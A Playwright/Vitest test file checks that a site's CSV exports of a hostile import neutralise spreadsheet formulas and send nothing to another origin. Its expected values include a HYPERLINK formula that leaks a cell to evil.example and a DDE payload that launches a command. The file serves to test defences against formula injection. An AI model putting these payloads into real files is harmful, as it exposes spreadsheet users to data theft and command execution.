/**
 * Hostile imports in Chromium, through the real pages: a file whose notes, names and sources are
 * spreadsheet formulas is imported, then leaves the browser as CSV twice, as the explorer's share
 * CSV (the import drawn beside the published figures) and as the SQL console's export. Both files,
 * opened as text, have no cell a spreadsheet would run, and the hostile text is all still there.
 */
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { readFileSync } from 'node:fs';
import Papa from 'papaparse';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { launchBrowser, watchPage, type PageWatch } from '../support/browser';
import { formulaCells } from '../support/formulaCells';
import { runInConsole, waitForConsole } from '../../scripts/bench/consoleDriver';

const siteUrl = inject('siteUrl');
const HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"Details")';

let browser: Browser;
let context: BrowserContext;
let page: Page;
let watch: PageWatch;
let table: string;

beforeAll(async () => {
	browser = await launchBrowser();
	context = await browser.newContext({ acceptDownloads: true, viewport: { width: 1280, height: 900 } });
	page = await context.newPage();
	watch = watchPage(page, new URL(siteUrl).origin);
	await page.goto(`${siteUrl}/import/`);
	await page.waitForSelector('[data-phase="idle"]');
	await page.locator('input[type=file]').setInputFiles('tests/fixtures/import/hostile-notes.csv');
	await page.waitForSelector('[data-phase="preview"]', { timeout: 30_000 });
	await page.locator('button.primary', { hasText: 'Import into the database' }).click();
	await page.waitForSelector('[data-phase="saved"]', { timeout: 60_000 });
	table = (await page.locator('.saved code').innerText()).trim();
});
afterAll(() => browser?.close());

async function downloaded(click: () => Promise<unknown>): Promise<string> {
	const [file] = await Promise.all([page.waitForEvent('download'), click()]);
	return readFileSync((await file.path())!, 'utf8');
}

describe('CSV exports of a hostile import', () => {
	it("the explorer's share CSV neutralises every formula and keeps the imported notes", async () => {
		await page.goto(`${siteUrl}/explore/?geo=KHM&cmp=${table}/hiv_prevalence`);
		await page.waitForFunction(() => document.querySelector('[data-testid="explore-panel"]')?.getAttribute('aria-busy') === 'false', null, { timeout: 60_000 });
		await page.waitForFunction(() => [...document.querySelectorAll('.legend li')].some((li) => li.textContent?.includes('Your import')), null, { timeout: 60_000 });
		await page.locator('#explore-share-share summary').click();
		const csv = await downloaded(() => page.locator('#explore-share-share').getByRole('link', { name: 'CSV data' }).click());
		expect(formulaCells(csv)).toEqual([]);
		const rows = Papa.parse<Record<string, string>>(csv, { header: true, skipEmptyLines: true }).data;
		const imported = rows.filter((r) => r.source_id === `import:${table}`);
		expect(imported.map((r) => r.note).sort()).toEqual([`'${HYPERLINK}`, "'\t=1+1", "'-1+1", 'note\n=second line'].sort());
		// The published figures are in the same file, untouched.
		expect(rows.some((r) => r.source_id !== `import:${table}` && r.geo_id === 'KHM')).toBe(true);
	});

	it("the SQL console's export neutralises every formula and keeps every row", async () => {
		await page.goto(`${siteUrl}/sql/`);
		await waitForConsole(page);
		const run = await runInConsole(page, `SELECT year, value, note, indicator_name, source FROM ${table} ORDER BY year`);
		expect(run).toMatchObject({ rows: 4, error: null });
		const csv = await downloaded(() => page.click('text=Download CSV'));
		expect(formulaCells(csv)).toEqual([]);
		const rows = Papa.parse<Record<string, string>>(csv, { header: true, skipEmptyLines: true }).data;
		expect(rows.map((r) => r.source)).toEqual(["'@SUM(1+1)*cmd|' /C calc'!A0", "'+1+1", "'\r=3+3", 'Survey, "final"']);
		expect(rows[1].indicator_name).toBe("'\t=2+2");
	});

	it('sent nothing to another origin', () => {
		expect(watch.foreignRequests).toEqual([]);
	});
});
